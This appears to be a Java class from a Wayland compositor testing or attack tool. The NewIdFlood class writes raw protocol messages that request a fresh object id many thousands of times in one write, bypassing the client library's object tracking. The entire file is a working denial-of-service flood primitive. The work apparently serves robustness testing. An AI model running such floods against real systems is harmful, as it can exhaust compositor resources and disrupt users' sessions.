package io.shmward.client.attack;

import io.shmward.client.ClientObject;
import io.shmward.client.WaylandClient;
import io.shmward.protocol.spec.ArgType;
import io.shmward.protocol.spec.MessageSpec;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;

/**
 * Writes a request whose only argument is a new id ({@code wl_display.sync}, {@code get_registry},
 * {@code wl_compositor.create_region}) many times over, each with a fresh id, as fast as the socket takes
 * it: the client library would track every object, a flood must not.
 */
final class NewIdFlood {
    private final WaylandClient client;
    private final int objectId;
    private final int header;

    NewIdFlood(WaylandClient client, ClientObject target, String request) {
        MessageSpec spec = target.spec().request(request);
        if (spec.args().size() != 1 || spec.args().getFirst().type() != ArgType.NEW_ID) {
            throw new IllegalArgumentException(spec + " does not take just a new id");
        }
        this.client = client;
        this.objectId = target.id();
        this.header = (12 << 16) | spec.opcode();
    }

    /** Writes {@code count} requests in one write, with ids the client will never hand out again. */
    void send(int count) throws IOException {
        int id = client.reserveIds(count);
        ByteBuffer b = ByteBuffer.allocate(12 * count).order(ByteOrder.nativeOrder());
        for (int i = 0; i < count; i++) {
            b.putInt(objectId).putInt(header).putInt(id + i);
        }
        client.sendRaw(b.array());
    }
}
